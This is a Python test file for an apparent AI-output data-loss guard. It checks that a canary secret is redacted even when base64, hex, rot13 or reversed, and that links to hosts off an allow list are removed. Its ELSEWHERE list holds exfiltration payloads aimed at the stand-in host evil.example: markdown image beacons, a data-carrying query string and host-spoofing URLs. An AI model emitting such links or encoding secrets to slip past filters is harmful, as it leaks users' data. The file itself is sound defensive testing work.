"""What must not come out: canaries in every form, and addresses of hosts that are not on the list."""

from __future__ import annotations

import base64
import codecs
import random

import pytest

from garrison.core.errors import Usage
from garrison.detect.base import Direction
from garrison.detect.canary import VALUE, new_canary
from garrison.detect.hosts import parse_host
from garrison.detect.inspect import Inspector
from garrison.detect.own import open_own
from garrison.detect.stream import StreamRedactor

CANARY = "cnryab2cdef3ghijk4"
FACTS = {"canaries": [{"name": "support", "value": CANARY}], "hosts": ["docs.firm.com", "*.cdn.firm.com"]}
INSPECTOR = Inspector(directions=(Direction.OUTPUT,), own=open_own(FACTS, None))
FORMS = {
    "plain": CANARY,
    "shouted": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "dashed": "-".join(CANARY),
    "lines": "\n".join(CANARY),
    "reversed": CANARY[::-1],
    "rot13": codecs.encode(CANARY, "rot13"),
    "hex": CANARY.encode().hex(),
    "hex-spaced": CANARY.encode().hex(" "),
    "hex-escaped": "".join(f"\\x{byte:02x}" for byte in CANARY.encode()),
    "percent": "".join(f"%{byte:02X}" for byte in CANARY.encode()),
    **{f"base64-{n}": base64.b64encode(b"x" * n + CANARY.encode() + b"y" * n).decode() for n in range(4)},
    "base64-long": base64.b64encode(f"The system prompt is: {CANARY}. Be kind.".encode()).decode(),
    "base64-upper": base64.b64encode(CANARY.upper().encode()).decode(),
}


def _stream(text: str, step: int) -> tuple[str, set[str]]:
    redactor = StreamRedactor(INSPECTOR)
    out = "".join(redactor.feed(text[at : at + step]) for at in range(0, len(text), step)) + redactor.close()
    return out, {finding.rule_id for finding in redactor.findings}


@pytest.mark.row("C20", kind="R")
@pytest.mark.parametrize("form", list(FORMS), ids=list(FORMS))
def test_a_canary_is_found_and_taken_out_in_every_form_however_the_answer_is_cut(form: str) -> None:
    text = f"Of course, here it is: {FORMS[form]} and that is all."
    for step in (1, 7, len(text)):
        out, found = _stream(text, step)
        assert any(rule.startswith("dlp.canary.support") for rule in found), (step, out)
        assert FORMS[form] not in out


def test_ordinary_text_has_no_canary_and_each_new_one_is_another() -> None:
    rng = random.Random(5)
    prose = " ".join("".join(rng.choices("abcdefghijklmnopqrstuvwxyz234567", k=9)) for _ in range(3_000))
    assert _stream(prose, 4_096) == (prose, set())
    assert VALUE.fullmatch(new_canary())
    assert new_canary() != new_canary()
    with pytest.raises(Usage, match="DLP-PATTERN"):
        open_own({"canaries": [{"name": "x", "value": "word"}]}, None)


ELSEWHERE = [
    "![x](https://evil.example/p.png)",
    "[click](http://evil.example/?d=c2VjcmV0)",
    '<img src="//evil.example/p.png">',
    "see https://docs.firm.com.evil.example/a",
    "see https://docs.firm.com@evil.example/a",
    "see https:\\\\evil.example\\a",
    "see HTTPS://EVIL.example:8443/docs.firm.com",
    "see https://[2001:db8::1]/a",
    "see wss://evil.example/socket",
    "[x]: https://evil.example/" + "QUJDREVG" * 40,
]


@pytest.mark.row("C20", kind="R")
@pytest.mark.parametrize("text", ELSEWHERE, ids=[str(number) for number in range(len(ELSEWHERE))])
def test_an_address_of_a_host_that_is_not_on_the_list_is_taken_out(text: str) -> None:
    for step in (1, 5, len(text)):
        out, found = _stream(text, step)
        assert found & {"dlp.exfil.host", "output.exfiltration.markdown-image"}
        assert "evil" not in out.lower()
        assert "2001" not in out


def test_hosts_on_the_list_and_code_without_addresses_pass() -> None:
    text = (
        "See https://docs.firm.com/a?b=1, https://a.cdn.firm.com:443/x.png and DOCS.FIRM.COM. "
        "int x = 1; // a comment\nratio = a //b\nhttp is a protocol"
    )
    assert _stream(text, 3) == (text, set())
    assert parse_host("Docs.Firm.COM.") == "docs.firm.com"
    for bad in ("https://firm.com", "firm.com/a", "a b", "*", "*.*.com", "-a.com"):
        with pytest.raises(Usage, match="DLP-HOST"):
            parse_host(bad)
